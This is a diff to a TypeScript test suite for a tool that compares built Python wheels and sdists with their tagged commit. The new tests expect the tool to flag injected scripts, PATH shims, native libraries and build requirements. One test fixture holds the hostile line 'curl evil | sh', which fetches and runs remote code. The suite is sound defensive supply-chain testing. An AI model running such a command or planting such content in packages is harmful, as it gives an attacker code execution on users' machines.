@@ -23,6 +23,7 @@ const FILES: Readonly<Record<string, string>> = {
   "pyproject.toml": "[project]\nname = 'omi'\n",
   "src/omi/__init__.py": "print('hello')\n",
   "src/omi/unix.py": "a = 1\n",
+  "setup.cfg": "[metadata]\n# Written by hand.\nname=omi\n",
   ".gitattributes": ".git_archival.txt export-subst\n*.bin filter=lfs\n",
   ".git_archival.txt": "node: $Format:%H$\n",
   // The content that this pointer names is "large\0".
@@ -139,7 +140,7 @@ describe("distributions of the tagged commit", () => {
       diagnostics: [],
       result: [
         { file: WHEEL, members: 5, committed: 3, generated: 2 },
-        { file: SDIST, members: 8, committed: 6, generated: 2 },
+        { file: SDIST, members: 9, committed: 7, generated: 2 },
       ],
     });
   });
@@ -184,11 +185,41 @@ build.generated = ["omi/evil1.py", "omi/evil2.py", "omi/evil3.py", "omi/evil4.py
   });
 });
 
+describe("what runs, or is installed, is not only data", () => {
+  const build = "[build-system]\nrequires = ['evil']\n";
+  test.each([
+    ["content-extension-unknown", WHEEL, "omi/__init__.abi3.so", "\0", "beside it"],
+    ["content-command-unknown", WHEEL, "omi-1.0.data/scripts/omi", "curl evil | sh\n", "PATH"],
+    ["content-command-unknown", WHEEL, "omi-1.0.data/data/bin/git", "#!/bin/sh\n", "PATH"],
+    ["content-build-unknown", SDIST, "pyproject.toml", build, "builds the sdist"],
+    ["content-build-unknown", SDIST, "setup.cfg", "[options]\nsetup_requires = evil\n", "builds"],
+  ])("%s, in %s: %s", async (code, distribution, path, content, why) => {
+    await put(distribution, { [path]: content });
+    expect(await compare(requestFor([distribution]))).toMatchObject({
+      status: "failed",
+      diagnostics: [
+        {
+          code,
+          severity: "error",
+          message: expect.stringContaining(`: ${path}.`),
+          hint: expect.stringContaining(why),
+        },
+      ],
+    });
+    expect(await compare(requestFor([distribution], [path]))).toMatchObject({ diagnostics: [] });
+  });
+
+  test("but setuptools may write the project's own setup.cfg anew", async () => {
+    const text = "[metadata]\nname = omi\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";
+    await put(SDIST, { "setup.cfg": text });
+    expect(await compare(requestFor([SDIST]))).toMatchObject({ status: "done", diagnostics: [] });
+  });
+});
+
 describe("what is otherwise not as in the commit is told with its reason", () => {
   test.each([
     ["content-data-unknown", "warning", WHEEL, "omi/new.json", "{}"],
     ["content-compiled", "notice", LINUX_WHEEL, "omi/fast.abi3.so", "\0"],
-    ["content-data-unknown", "warning", WHEEL, "omi/fast.abi3.so", "\0"],
     ["content-submodule", "notice", WHEEL, "omi/vendor/six.py", "import sys\n"],
     ["content-line-ends", "notice", SDIST, "src/omi/unix.py", "a = 1\r\n"],
     ["content-export-subst", "notice", SDIST, ".git_archival.txt", "node: 12ab\n"],
@@ -217,7 +248,7 @@ describe("without a comparison", () => {
     expect(await compare(requestFor([WHEEL, SDIST]))).toMatchObject({
       status: "failed",
       diagnostics: [{ code: "distribution-unreadable" }],
-      result: [{ file: SDIST, members: 6, committed: 6, generated: 0 }],
+      result: [{ file: SDIST, members: 7, committed: 7, generated: 0 }],
     });
   });
 
@@ -229,7 +260,7 @@ describe("without a comparison", () => {
     expect(await compare(request)).toMatchObject({
       status: "failed",
       diagnostics: [{ code: "manifest-mismatch" }],
-      result: [{ file: SDIST, members: 6, committed: 6, generated: 0 }],
+      result: [{ file: SDIST, members: 7, committed: 7, generated: 0 }],
     });
   });
 
